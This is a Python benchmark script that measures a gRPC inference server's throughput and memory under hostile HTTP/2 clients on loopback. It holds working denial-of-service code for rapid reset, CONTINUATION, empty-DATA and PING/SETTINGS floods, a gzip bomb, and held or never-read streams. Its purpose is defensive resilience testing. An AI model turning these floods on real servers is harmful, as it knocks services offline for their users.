#!/usr/bin/env python3
"""Well-behaved gRPC clients under attack: perf_analyzer's throughput (``-i grpc``) on the
identity model at concurrency 16, alone and while one hostile gRPC client runs against the
same server, for each attack in turn, against nereid's native gRPC engine and
``--grpc-server grpcio`` (the reference) in the same run.

The attacks, from threads of this process, over raw sockets on loopback (hand-built frames,
or ``h2``'s client where flow control must be followed):

- ``rapid_reset``: HEADERS + DATA of a real ModelInfer + RST_STREAM, 50 streams a write,
  reconnecting whenever the server says GOAWAY or closes (CVE-2023-44487).
- ``continuation_flood``: HEADERS without END_HEADERS, then zero-length CONTINUATION frames
  (CVE-2024-27316's family), reconnecting when told to go.
- ``empty_data_flood``: a ModelInfer stream, then zero-length DATA frames (CVE-2019-9518).
- ``ping_settings_flood``: one connection sending PINGs, one sending empty SETTINGS
  (CVE-2019-9512 / -9515), each reconnecting when told to go.
- ``gzip_bomb``: a ModelInfer message of about 1 MB, ``grpc-encoding: gzip``, inflating to
  1 GiB of zeros, sent again as soon as it is answered.
- ``held_streams``: 150 connections, each with 16 ModelInfer streams that declare a 64 MiB
  message and send 3 MiB of it, then hold (memory). The fill stops early if the server's RSS
  passes ``--rss-cap-mb`` (this machine is shared); the measurement starts once it is in.
- ``never_reads``: 4 ModelStreamInfer streams that send requests as fast as the server grants
  window and never read an answer (no WINDOW_UPDATE is ever sent for the answers); they
  pause while the server's RSS is past ``--rss-cap-mb``.

A server still holding over ``--restart-over-mb`` after an attack is restarted before the
next one; a started server gets one unrecorded perf_analyzer run first. Counts of frames
"written" are what the kernel took: most of a flood's frames sit in socket buffers the
server resets once it has said GOAWAY.

Each attack runs for the length of one perf_analyzer measurement (it starts, settles,
perf_analyzer runs, it stops). For each attack and engine a quiet run comes right before
the attacked one, ``--repeats`` times, the engine order flipped every repeat. Also read: the
server process's peak RSS during the attack (``VmHWM`` of /proc/PID/status, reset through
``clear_refs`` before each attack, and ``VmRSS`` sampled every 50 ms), and whether the
server stayed up (alive, and a gRPC ServerLive answered within 10 s of the attack's end).

    python perf/bench_hostile_grpc.py                          # 2 repeats, about 10 minutes
    python perf/bench_hostile_grpc.py --attack gzip_bomb --engine native --repeats 1
    python perf/bench_hostile_grpc.py --csv perf/plots/hostile_grpc.csv --plot perf/plots/hostile_grpc.png

Uses bench_identity's server and perf_analyzer runner; ``h2``, ``hpack`` and ``tritonclient``
(for the ModelInfer message). Exit status: 0 every run measured and every server stayed up;
1 otherwise; 2 perf_analyzer is not installed.
"""

from __future__ import annotations

import argparse
import csv
import json
import os
import selectors
import shutil
import socket
import statistics
import struct
import sys
import tempfile
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import h2.config
import h2.connection
import h2.events
import h2.exceptions

sys.path.insert(0, str(Path(__file__).resolve().parent))

import bench_identity as bench  # noqa: E402

ENGINES = ("native", "grpcio")

# ---------------------------------------------------------------------------------------
# frames, built by hand (the floods must send what a well-behaved client library never would)

from h2_rfc_probe import (  # noqa: E402  # the RFC probe's hand-built frames, shared
    ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, MODEL_INFER, PING, PREFACE, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, code_name, frame, grpc_message, header_block, request_headers,
)

MODEL_STREAM_INFER = b"/inference.GRPCInferenceService/ModelStreamInfer"


def infer_request() -> bytes:
    """A real ModelInfer for the identity model: FP32 [1, 16] of zeros, raw contents."""
    from tritonclient.grpc import service_pb2

    request = service_pb2.ModelInferRequest(model_name=bench.MODEL)
    tensor = request.inputs.add(name="INPUT0", datatype="FP32")
    tensor.shape.extend([1, 16])
    request.raw_input_contents.append(bytes(64))
    return bytes(request.SerializeToString())


def gzip_of_zeros(size: int) -> bytes:
    """gzip of ``size`` zero bytes: about a thousandth of that."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(1 << 20)
    parts = [deflater.compress(block) for _ in range(size >> 20)]
    parts.append(deflater.compress(bytes(size & ((1 << 20) - 1))))
    parts.append(deflater.flush())
    return b"".join(parts)


# ---------------------------------------------------------------------------------------
# a raw connection: frames out as given, a reader thread that drains and listens


class RawPeer:
    """One client connection for the floods, its preface sent. ``send`` writes bytes as given; a reader thread
    drains the socket all along (a flood never stalls on the server's answers), ACKs the
    server's SETTINGS and PINGs as a client must, and notes a GOAWAY or the close."""

    def __init__(self, port: int, stats: Counter[str]) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=2.0)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = f"127.0.0.1:{port}".encode()
        self.stats = stats
        self.goaway: int | None = None  # its error code
        self.ended = False  # closed by the server, or given up by us
        self.answers = 0  # HEADERS frames from the server (answers and trailers)
        self._send_lock = threading.Lock()
        # the preface goes before the reader starts: its ACK of the server's SETTINGS must follow it
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    @property
    def done(self) -> bool:
        return self.ended or self.goaway is not None

    def send(self, data: bytes) -> bool:
        """False once the connection is over, or the server stopped reading for 2 s (then
        the frame boundary is lost and the connection is given up)."""
        if self.done:
            return False
        try:
            with self._send_lock:
                self.sock.sendall(data)
        except OSError:  # socket.timeout included
            self.stats["send stalled or failed"] += 1
            self.ended = True
            return False
        return True

    def close(self) -> None:
        self.ended = True
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        self._reader.join(3)

    def _read(self) -> None:
        buffer = bytearray()
        while True:
            try:
                data = self.sock.recv(1 << 18)
            except socket.timeout:
                if self.ended:
                    return
                continue
            except OSError:
                if not self.ended:
                    self.stats["closed by the server (reset)"] += 1
                self.ended = True
                return
            if not data:
                if not self.ended and self.goaway is None:
                    self.stats["closed by the server, no GOAWAY"] += 1
                self.ended = True
                return
            buffer += data
            position = 0
            while len(buffer) - position >= 9:
                high, low, kind, flags, stream_id = struct.unpack_from(">BHBBL", buffer, position)
                size = high << 16 | low
                if len(buffer) - position - 9 < size:
                    break
                payload = bytes(buffer[position + 9:position + 9 + size])
                position += 9 + size
                self._frame(kind, flags, payload)
            del buffer[:position]

    def _frame(self, kind: int, flags: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY and self.goaway is None:
            self.goaway = struct.unpack_from(">LL", payload)[1]
            detail = payload[8:].decode("latin-1")[:60]
            self.stats[f"GOAWAY {code_name(self.goaway)}" + (f" ({detail})" if detail else "")] += 1
        elif kind == RST_STREAM:
            self.stats[f"RST_STREAM {code_name(struct.unpack('>L', payload)[0])}"] += 1
        elif kind == HEADERS:
            self.answers += 1


# ---------------------------------------------------------------------------------------
# an h2 connection: for the attacks that must follow flow control to get their bytes in


class H2Peer:
    """``h2``'s client over a blocking socket: sends only what the server's windows allow,
    reads when they are spent. ``consume`` False: answers are read off the socket but never
    acknowledged, so the server gets no window back for them (a client that never reads)."""

    def __init__(self, port: int, stats: Counter[str], consume: bool = True) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=2.0)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = f"127.0.0.1:{port}".encode()
        self.stats = stats
        self.consume = consume
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
        self.conn.initiate_connection()
        self.ended = False
        self.finished: set[int] = set()  # streams the server answered (trailers) or reset
        self.received = 0  # bytes of answers received
        self.flush()

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data and not self.ended:
            try:
                self.sock.sendall(data)
            except OSError:
                self.stats["send stalled or failed"] += 1
                self.ended = True

    def open(self, path: bytes, extra: list[tuple[bytes, bytes]] | None = None) -> int:
        stream_id = self.conn.get_next_available_stream_id()
        self.conn.send_headers(stream_id, request_headers(self.authority, path, extra))
        self.flush()
        return stream_id

    def window(self, stream_id: int) -> int:
        if self.ended or stream_id in self.finished:
            return 0
        try:
            return min(self.conn.local_flow_control_window(stream_id), self.conn.max_outbound_frame_size)
        except h2.exceptions.H2Error:  # the stream is closed
            self.finished.add(stream_id)
            return 0

    def send(self, stream_id: int, data: bytes, end: bool, give_up: Callable[[], bool], wait: float = 0.2) -> int:
        """Send ``data`` on the stream as the windows open; the bytes sent (fewer when the
        stream or connection ends, or ``give_up`` says so while waiting for window)."""
        sent = 0
        view = memoryview(data)
        while sent < len(data) and not self.ended and stream_id not in self.finished:
            room = self.window(stream_id)
            if room <= 0:
                if give_up():
                    break
                self.pump(wait)
                continue
            chunk = view[sent:sent + room]
            last = end and sent + len(chunk) == len(data)
            try:
                self.conn.send_data(stream_id, bytes(chunk), end_stream=last)
            except h2.exceptions.H2Error:
                self.finished.add(stream_id)
                break
            sent += len(chunk)
            self.flush()
        if end and sent == len(data) == 0 and stream_id not in self.finished:
            self.conn.end_stream(stream_id)
            self.flush()
        return sent

    def pump(self, timeout: float) -> None:
        """Read what the server sent within ``timeout`` and act on it."""
        if self.ended:
            return
        self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(1 << 18)
        except socket.timeout:
            return
        except OSError:
            self.stats["closed by the server (reset)"] += 1
            self.ended = True
            return
        finally:
            self.sock.settimeout(2.0)
        if not data:
            self.ended = True
            return
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.H2Error as exc:
            self.stats[f"h2 error: {exc.__class__.__name__}"] += 1
            self.ended = True
            return
        for event in events:
            self._event(event)
        self.flush()

    def _event(self, event: h2.events.Event) -> None:
        if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
            status = dict(event.headers).get(b"grpc-status")
            if status is not None:
                self.stats[f"grpc-status {int(status)}"] += 1
                self.finished.add(event.stream_id)
        elif isinstance(event, h2.events.DataReceived):
            self.received += len(event.data)
            if self.consume:
                self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, h2.events.StreamReset):
            self.stats[f"RST_STREAM {code_name(int(event.error_code or 0))}"] += 1
            self.finished.add(event.stream_id)
        elif isinstance(event, h2.events.ConnectionTerminated):
            detail = (event.additional_data or b"").decode("latin-1")[:60]
            self.stats[f"GOAWAY {code_name(int(event.error_code or 0))}" + (f" ({detail})" if detail else "")] += 1
            self.ended = True

    def close(self) -> None:
        self.ended = True
        try:
            self.sock.close()
        except OSError:
            pass


# ---------------------------------------------------------------------------------------
# the attacks


class Attack:
    """A hostile client on threads of this process, from ``start`` until ``stop`` (or
    ``limit`` seconds, whichever is first). ``ready`` is set once the attack is in place;
    ``stats`` counts what it sent and what the server answered."""

    name = ""
    summary = ""
    #: most seconds to wait for ``ready`` before measuring
    settle_limit = 5.0

    def __init__(self, port: int, args: argparse.Namespace, rss: Callable[[], int]) -> None:
        self.port = port
        self.args = args
        self.rss = rss
        self.stats: Counter[str] = Counter()
        self.ready = threading.Event()
        self.deadline = time.monotonic() + args.attack_limit
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self._guarded, args=(target,), daemon=True)
                         for target in self.targets()]

    def targets(self) -> list[Callable[[], None]]:
        raise NotImplementedError

    @property
    def stopping(self) -> bool:
        return self._stop.is_set() or time.monotonic() > self.deadline

    def start(self) -> None:
        for thread in self._threads:
            thread.start()

    def stop(self) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join(30)
            if thread.is_alive():
                self.stats["attack thread did not stop"] += 1

    def _guarded(self, target: Callable[[], None]) -> None:
        try:
            target()
        except Exception as exc:  # noqa: BLE001 -- a bench bug is reported, not hidden in a thread
            self.stats[f"attack error: {exc.__class__.__name__}: {exc}"[:120]] += 1
        finally:
            self.ready.set()

    def connect(self) -> RawPeer | None:
        try:
            peer = RawPeer(self.port, self.stats)
        except OSError:
            self.stats["connect failed"] += 1
            time.sleep(0.05)
            return None
        self.stats["connections"] += 1
        return peer

    def flood(self, opening: Callable[[RawPeer], bytes], unit: bytes, per_unit: int = 1) -> None:
        """``opening`` then ``unit`` again and again (512 frames a write), on a fresh
        connection each time the server says GOAWAY, closes or stops reading."""
        batch = unit * max(1, 512 // per_unit)
        frames = max(1, 512 // per_unit) * per_unit
        while not self.stopping:
            peer = self.connect()
            if peer is None:
                continue
            try:
                peer.send(opening(peer))
                self.ready.set()
                while not self.stopping and peer.send(batch):
                    self.stats["frames written"] += frames
            finally:
                peer.close()


class RapidReset(Attack):
    name = "rapid_reset"
    summary = "HEADERS + DATA (a real ModelInfer) + RST_STREAM, 50 streams a write; reconnects on GOAWAY"

    def targets(self) -> list[Callable[[], None]]:
        return [self._run]

    def _run(self) -> None:
        body = grpc_message(infer_request())
        while not self.stopping:
            peer = self.connect()
            if peer is None:
                continue
            block = header_block(request_headers(peer.authority, MODEL_INFER))
            stream_id = 1
            self.ready.set()
            try:
                while not self.stopping and stream_id < 2**31 - 200:
                    burst = b"".join(
                        frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, body)
                        + frame(RST_STREAM, 0, s, struct.pack(">L", CANCEL))
                        for s in range(stream_id, stream_id + 100, 2)
                    )
                    if not peer.send(burst):
                        break
                    stream_id += 100
                    self.stats["streams written"] += 50
            finally:
                self.stats["answered"] += peer.answers
                peer.close()


class ContinuationFlood(Attack):
    name = "continuation_flood"
    summary = "HEADERS without END_HEADERS, then zero-length CONTINUATION frames; reconnects on GOAWAY"

    def targets(self) -> list[Callable[[], None]]:
        return [self._run]

    def _run(self) -> None:
        self.flood(lambda peer: frame(HEADERS, 0, 1, header_block(request_headers(peer.authority, MODEL_INFER))),
                   frame(CONTINUATION, 0, 1))


class EmptyDataFlood(Attack):
    name = "empty_data_flood"
    summary = "a ModelInfer stream, then zero-length DATA frames; reconnects on GOAWAY"

    def targets(self) -> list[Callable[[], None]]:
        return [self._run]

    def _run(self) -> None:
        self.flood(lambda peer: frame(HEADERS, END_HEADERS, 1,
                                      header_block(request_headers(peer.authority, MODEL_INFER))),
                   frame(DATA, 0, 1))


class PingSettingsFlood(Attack):
    name = "ping_settings_flood"
    summary = "one connection of PINGs, one of empty SETTINGS; each reconnects on GOAWAY"

    def targets(self) -> list[Callable[[], None]]:
        return [lambda: self.flood(lambda peer: b"", frame(PING, 0, 0, b"hostile\x00")),
                lambda: self.flood(lambda peer: b"", frame(SETTINGS, 0, 0))]


class GzipBomb(Attack):
    name = "gzip_bomb"
    summary = "a ~1 MB gzip ModelInfer message inflating to 1 GiB, sent again once answered"
    _bombs: dict[int, bytes] = {}

    @classmethod
    def bomb(cls, inflated: int) -> bytes:
        if inflated not in cls._bombs:
            cls._bombs[inflated] = grpc_message(gzip_of_zeros(inflated), compressed=True)
        return cls._bombs[inflated]

    def targets(self) -> list[Callable[[], None]]:
        return [self._run]

    def _run(self) -> None:
        message = self.bomb(self.args.bomb_mib << 20)
        extra = [(b"grpc-encoding", b"gzip"), (b"grpc-accept-encoding", b"gzip")]
        peer: H2Peer | None = None
        while not self.stopping:
            if peer is None or peer.ended:
                if peer is not None:
                    peer.close()
                peer = H2Peer(self.port, self.stats)
                self.stats["connections"] += 1
            started = time.monotonic()
            stream_id = peer.open(MODEL_INFER, extra)
            self.ready.set()
            peer.send(stream_id, message, end=True, give_up=lambda: self.stopping)
            self.stats["bombs sent"] += 1
            while stream_id not in peer.finished and not peer.ended and not self.stopping:
                peer.pump(0.2)
            if stream_id in peer.finished:
                self.stats["answered"] += 1
                self.stats["answer ms (sum)"] += int((time.monotonic() - started) * 1000)
        if peer is not None:
            peer.close()


class HeldStreams(Attack):
    name = "held_streams"
    summary = "150 connections x 16 ModelInfer streams, each 3 MiB into a declared 64 MiB message, held"
    settle_limit = 90.0

    def targets(self) -> list[Callable[[], None]]:
        return [self._run]

    def _run(self) -> None:
        args = self.args
        chunk = bytes(args.held_mib << 20)
        prefix = grpc_message(b"", declared=64 << 20)
        peers: list[H2Peer] = []
        capped = False
        try:
            for _ in range(args.held_connections):
                if self.stopping or capped:
                    break
                try:
                    peer = H2Peer(self.port, self.stats)
                except OSError:
                    self.stats["connect failed"] += 1
                    continue
                peers.append(peer)
                self.stats["connections"] += 1
                streams = [peer.open(MODEL_INFER) for _ in range(args.held_streams)]
                for stream_id in streams:
                    peer.send(stream_id, prefix, end=False, give_up=lambda: self.stopping)
                for stream_id in streams:
                    if self.rss() > args.rss_cap_mb << 20:
                        capped = True
                        break
                    # a window that stays shut for 1 s: the server is holding this stream back
                    waited = time.monotonic() + 1.0
                    sent = peer.send(stream_id, chunk, end=False,
                                     give_up=lambda: self.stopping or time.monotonic() > waited)
                    self.stats["MiB sent"] += sent >> 20
                    self.stats["streams filled" if sent == len(chunk) else "streams held back"] += 1
            if capped:
                self.stats[f"fill stopped: server RSS over {args.rss_cap_mb} MB"] += 1
            self.ready.set()
            selector = selectors.DefaultSelector()  # hold: answer the server's PINGs and SETTINGS
            for peer in peers:
                if not peer.ended:
                    selector.register(peer.sock, selectors.EVENT_READ, peer)
            while not self.stopping:
                for key, _ in selector.select(0.25):
                    held: H2Peer = key.data
                    held.pump(0.0)
                    if held.ended:
                        selector.unregister(held.sock)
            self.stats["connections still open"] += sum(1 for peer in peers if not peer.ended)
        finally:
            for peer in peers:
                peer.close()


class NeverReads(Attack):
    name = "never_reads"
    summary = "ModelStreamInfer streams sending requests as fast as allowed, never reading an answer"

    def targets(self) -> list[Callable[[], None]]:
        return [self._run for _ in range(self.args.never_read_connections)]

    def _run(self) -> None:
        message = grpc_message(infer_request())
        batch = message * 64
        peer = H2Peer(self.port, self.stats, consume=False)
        self.stats["connections"] += 1
        cap = self.args.rss_cap_mb << 20
        try:
            stream_id = peer.open(MODEL_STREAM_INFER)
            self.ready.set()
            while not self.stopping and not peer.ended and stream_id not in peer.finished:
                if self.rss() > cap:  # this machine is shared: wait while the server holds too much
                    self.stats[f"paused: server RSS over {self.args.rss_cap_mb} MB"] = 1
                    peer.pump(0.2)
                    continue
                sent = peer.send(stream_id, batch, end=False, give_up=lambda: self.stopping or self.rss() > cap)
                self.stats["requests sent"] += sent // len(message)
            self.stats["answer KiB received, never acknowledged"] += peer.received >> 10
        finally:
            peer.close()


ATTACKS: dict[str, type[Attack]] = {
    attack.name: attack
    for attack in (RapidReset, ContinuationFlood, EmptyDataFlood, PingSettingsFlood, GzipBomb, HeldStreams, NeverReads)
}


# ---------------------------------------------------------------------------------------
# the servers and what is read of them


class Engine(bench.Nereid):
    """nereid serving the identity model, its gRPC port on the given engine."""

    def __init__(self, log_dir: Path, args: argparse.Namespace, engine: str) -> None:
        self.name = engine  # before Server.__init__, which names the log after it
        self.engine = engine
        super().__init__(log_dir, args)

    def extra_args(self) -> list[str]:
        return list(self.args.nereid_arg) + ([] if self.engine == "native" else [f"--grpc-server {self.engine}"])

    def status_kib(self, key: str) -> int:
        """``VmRSS`` or ``VmHWM`` of the server process, KiB (0 when it is gone)."""
        if self.proc is None:
            return 0
        try:
            with open(f"/proc/{self.proc.pid}/status") as f:
                for line in f:
                    if line.startswith(key + ":"):
                        return int(line.split()[1])
        except OSError:
            pass
        return 0

    def rss(self) -> int:
        return self.status_kib("VmRSS") << 10

    def reset_peak(self) -> bool:
        """Start VmHWM afresh (``5`` to clear_refs, Linux 4.0+)."""
        if self.proc is None:
            return False
        try:
            with open(f"/proc/{self.proc.pid}/clear_refs", "w") as f:
                f.write("5")
            return True
        except OSError:
            return False

    def alive_over_grpc(self, timeout: float = 10.0) -> bool:
        """Up: the process runs and a ServerLive over gRPC is answered within ``timeout``
        (asked again until then: a call can fail while the server catches up)."""
        if self.proc is None or self.proc.poll() is not None:
            return False
        import tritonclient.grpc as grpcclient  # noqa: PLC0415 -- only once there is a server

        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline and self.proc.poll() is None:
            client = grpcclient.InferenceServerClient(self.grpc_url)
            try:
                if client.is_server_live(client_timeout=max(0.1, deadline - time.monotonic())):
                    return True
            except Exception:  # noqa: BLE001 -- any failure is "not answered yet"
                time.sleep(0.2)
            finally:
                client.close()
        return False


class PeakSampler:
    """VmRSS of the server, every 50 ms, from ``start`` to ``stop``: the highest read."""

    def __init__(self, server: Engine) -> None:
        self.server = server
        self.peak = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self) -> None:
        self._thread.start()

    def stop(self) -> int:
        self._stop.set()
        self._thread.join(5)
        return self.peak

    def _run(self) -> None:
        while not self._stop.wait(0.05):
            self.peak = max(self.peak, self.server.rss())


# ---------------------------------------------------------------------------------------
# one pair: quiet, then attacked


@dataclass
class Pair:
    attack: str
    engine: str
    repeat: int
    quiet: bench.Run
    attacked: bench.Run | None = None
    rss_before_mb: float = float("nan")
    rss_peak_mb: float = float("nan")
    rss_after_mb: float = float("nan")
    up: bool = True
    attacker_cores: float = float("nan")  # CPU the attack's threads used, over its wall time
    stats: dict[str, int] = field(default_factory=dict)

    @property
    def failure(self) -> str:
        """Why the attacked run has no figure: perf_analyzer's last word."""
        if self.attacked is None or self.attacked.ok:
            return ""
        lines = [line.strip() for line in self.attacked.error.splitlines() if line.strip()]
        return lines[-1] if lines else "?"

    @property
    def ratio(self) -> float:
        if self.attacked is None or not self.quiet.ok or not self.quiet.throughput:
            return float("nan")
        return (self.attacked.throughput if self.attacked.ok else 0.0) / self.quiet.throughput


def measure_pair(name: str, server: Engine, pa_args: argparse.Namespace, args: argparse.Namespace,
                 repeat: int, work: Path) -> Pair:
    run_id = repeat * 100 + list(ATTACKS).index(name)  # names perf_analyzer's files in the work dir
    quiet = bench.run_level(pa_args, server, args.concurrency, run_id, work)
    pair = Pair(name, server.name, repeat, quiet)
    if not quiet.ok:
        bench.log(f"{name} @ {server.name}: quiet run failed: {quiet.error}")
    pair.rss_before_mb = server.rss() / 2**20
    hwm_reset = server.reset_peak()
    sampler = PeakSampler(server)
    sampler.start()
    attack = ATTACKS[name](server.grpc_port, args, server.rss)
    cpu_began, began = process_cpu(), time.monotonic()
    attack.start()
    attack.ready.wait(attack.settle_limit)
    time.sleep(max(0.0, args.settle - (time.monotonic() - began)))
    attacked = bench.run_level(pa_args, server, args.concurrency, run_id + 10_000, work)
    attack.stop()
    pair.attacker_cores = (process_cpu() - cpu_began) / (time.monotonic() - began)
    peak = max(sampler.stop(), (server.status_kib("VmHWM") << 10) if hwm_reset else 0)
    pair.attacked = attacked
    pair.rss_peak_mb = peak / 2**20
    pair.up = server.alive_over_grpc()
    time.sleep(1.0)  # what the server gives back once the attack is over
    pair.rss_after_mb = server.rss() / 2**20
    pair.stats = dict(attack.stats)
    attacked_text = (f"{attacked.throughput:,.0f} infer/s p99 {attacked.p99_us / 1000:.1f} ms" if attacked.ok
                     else f"FAILED ({pair.failure})")
    bench.log(f"rep {repeat + 1} {name} @ {server.name}: quiet {quiet.throughput:,.0f} infer/s, attacked "
              f"{attacked_text} ({pair.ratio:.0%}); RSS {pair.rss_before_mb:.0f} -> peak {pair.rss_peak_mb:.0f} "
              f"-> {pair.rss_after_mb:.0f} MB; {'up' if pair.up else 'DOWN'}; "
              f"attacker {pair.attacker_cores:.2f} cores; "
              f"{summarize_stats(pair.stats)}")
    return pair


def process_cpu() -> float:
    """CPU seconds of this process (the attack's threads; perf_analyzer is a child)."""
    times = os.times()
    return times.user + times.system


def summarize_stats(stats: dict[str, int]) -> str:
    return ", ".join(f"{key} {value:,}" for key, value in sorted(stats.items()))


# ---------------------------------------------------------------------------------------
# reporting


def median(xs: list[float]) -> float:
    xs = [x for x in xs if x == x]
    return statistics.median(xs) if xs else float("nan")


def rows_of(pairs: list[Pair], attacks: list[str], engines: list[str]) -> list[dict[str, object]]:
    rows: list[dict[str, object]] = []
    for name in attacks:
        for engine in engines:
            mine = [p for p in pairs if p.attack == name and p.engine == engine]
            if not mine:
                continue
            quiet = median([p.quiet.throughput for p in mine if p.quiet.ok])
            attacked = median([(p.attacked.throughput if p.attacked.ok else 0.0) for p in mine
                               if p.attacked is not None])
            rows.append({
                "attack": name, "engine": engine, "pairs": len(mine),
                "quiet": quiet, "attacked": attacked,
                "kept": attacked / quiet if quiet else float("nan"),
                "kept_each": [p.ratio for p in mine],
                "quiet_p99_ms": median([p.quiet.p99_us / 1000 for p in mine if p.quiet.ok]),
                "attacked_p99_ms": median([p.attacked.p99_us / 1000 for p in mine if p.attacked and p.attacked.ok]),
                "failed": sum(1 for p in mine if p.attacked is None or not p.attacked.ok),
                "rss_before_mb": median([p.rss_before_mb for p in mine]),
                "rss_peak_mb": max(p.rss_peak_mb for p in mine),
                "rss_after_mb": median([p.rss_after_mb for p in mine]),
                "up": all(p.up for p in mine),
                "attacker_cores": median([p.attacker_cores for p in mine]),
                "failures": sorted({p.failure for p in mine if p.failure}),
                "capped": any(key.startswith(("fill stopped", "paused")) for p in mine for key in p.stats),
                "stats": mine[-1].stats,
            })
    return rows


def print_table(rows: list[dict[str, object]]) -> None:
    def fmt(x: object, digits: int = 0) -> str:
        value = float(x)  # type: ignore[arg-type]
        return "-" if value != value else f"{value:,.{digits}f}"

    print("| attack | engine | quiet infer/s | attacked infer/s | kept (each pair) | p99 ms quiet / attacked "
          "| RSS MB before / peak / after | up | attacker CPU |")
    print("|---|---|---:|---:|---:|---:|---:|---|---:|")
    for r in rows:
        each = ", ".join(f"{x:.0%}" for x in r["kept_each"])  # type: ignore[attr-defined]
        failed = f", {r['failed']} failed" if r["failed"] else ""
        print(f"| {r['attack']} | {r['engine']} | {fmt(r['quiet'])} | {fmt(r['attacked'])} "
              f"| {float(r['kept']):.0%} ({each}{failed}) "  # type: ignore[arg-type]
              f"| {fmt(r['quiet_p99_ms'], 1)} / {fmt(r['attacked_p99_ms'], 1)} "
              f"| {fmt(r['rss_before_mb'])} / {fmt(r['rss_peak_mb'])}{' (cap)' if r['capped'] else ''} "
              f"/ {fmt(r['rss_after_mb'])} "
              f"| {'yes' if r['up'] else 'NO'} | {fmt(r['attacker_cores'], 2)} |")
    print("\nwhat the attacker saw (last pair), and why a perf_analyzer run under attack failed:")
    for r in rows:
        print(f"  {r['attack']} @ {r['engine']}: {summarize_stats(r['stats'])}")  # type: ignore[arg-type]
        for failure in r["failures"]:  # type: ignore[attr-defined]
            print(f"    perf_analyzer failed: {failure}")
    sys.stdout.flush()


def write_csv(path: Path, pairs: list[Pair]) -> None:
    with open(path, "w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["attack", "engine", "repeat", "quiet_infer_per_s", "quiet_p99_us", "attacked_ok",
                         "attacked_infer_per_s", "attacked_p99_us", "kept", "rss_before_mb", "rss_peak_mb",
                         "rss_after_mb", "up", "attacker_cores", "attacker_saw", "error"])
        for p in pairs:
            a = p.attacked
            writer.writerow([p.attack, p.engine, p.repeat, f"{p.quiet.throughput:.1f}", f"{p.quiet.p99_us:.0f}",
                             bool(a and a.ok), f"{a.throughput:.1f}" if a and a.ok else "0",
                             f"{a.p99_us:.0f}" if a and a.ok else "", f"{p.ratio:.3f}", f"{p.rss_before_mb:.0f}",
                             f"{p.rss_peak_mb:.0f}", f"{p.rss_after_mb:.0f}", p.up, f"{p.attacker_cores:.2f}",
                             json.dumps(p.stats), p.failure or p.quiet.error.strip()[-300:]])
    bench.log(f"pairs written to {path}")


def read_csv(path: Path) -> list[Pair]:
    """The pairs of an earlier run (``--csv``), to draw them again."""
    pairs: list[Pair] = []
    with open(path, newline="") as f:
        for row in csv.DictReader(f):
            quiet_throughput = float(row["quiet_infer_per_s"])
            quiet = bench.Run(row["engine"], 0, int(row["repeat"]), quiet_throughput == quiet_throughput,
                              quiet_throughput, p99_us=float(row["quiet_p99_us"]))
            ok = row["attacked_ok"] == "True"
            attacked = bench.Run(row["engine"], 0, int(row["repeat"]), ok, float(row["attacked_infer_per_s"]),
                                 p99_us=float(row["attacked_p99_us"] or "nan"), error="" if ok else row["error"])
            pairs.append(Pair(row["attack"], row["engine"], int(row["repeat"]), quiet, attacked,
                              float(row["rss_before_mb"]), float(row["rss_peak_mb"]), float(row["rss_after_mb"]),
                              row["up"] == "True", float(row["attacker_cores"]), json.loads(row["attacker_saw"])))
    return pairs


def plot(path: Path, rows: list[dict[str, object]], attacks: list[str], engines: list[str]) -> None:
    """Top: attacked / quiet throughput (ratio of the medians) per attack, one bar per
    engine, each pair's own ratio as a dot ("failed": a perf_analyzer run under attack got
    no figure; a red cross: the server went down). Bottom: the server's peak RSS during
    the attack (log scale), its RSS before as a tick; "(cap)": the attacker stopped sending
    at ``--rss-cap-mb``, the server would have taken more."""
    try:
        import matplotlib

        matplotlib.use("Agg")
        import matplotlib.pyplot as plt
    except ImportError:
        bench.log("--plot needs matplotlib; no plot drawn")
        return
    by = {(r["attack"], r["engine"]): r for r in rows}
    figure, (ratio_axes, rss_axes) = plt.subplots(2, 1, figsize=(9, 7), sharex=True,
                                                  gridspec_kw={"height_ratios": [3, 2]})
    width = 0.8 / len(engines)
    for index, engine in enumerate(engines):
        xs = [i + (index - (len(engines) - 1) / 2) * width for i in range(len(attacks))]
        present = [(x, by[(a, engine)]) for x, a in zip(xs, attacks) if (a, engine) in by]
        kept = [float(row["kept"]) for _, row in present]  # type: ignore[arg-type]
        ratio_axes.bar([x for x, _ in present], kept, width, label=engine, color=f"C{index}")
        peaks = [float(row["rss_peak_mb"]) for _, row in present]  # type: ignore[arg-type]
        rss_axes.bar([x for x, _ in present], peaks, width, label=engine, color=f"C{index}")
        for (x, row), value, peak in zip(present, kept, peaks):
            failed = f"\n{row['failed']} failed" if row["failed"] else ""
            ratio_axes.annotate(f"{value:.0%}{failed}", (x, value), textcoords="offset points", xytext=(0, 3),
                                ha="center", fontsize=7)
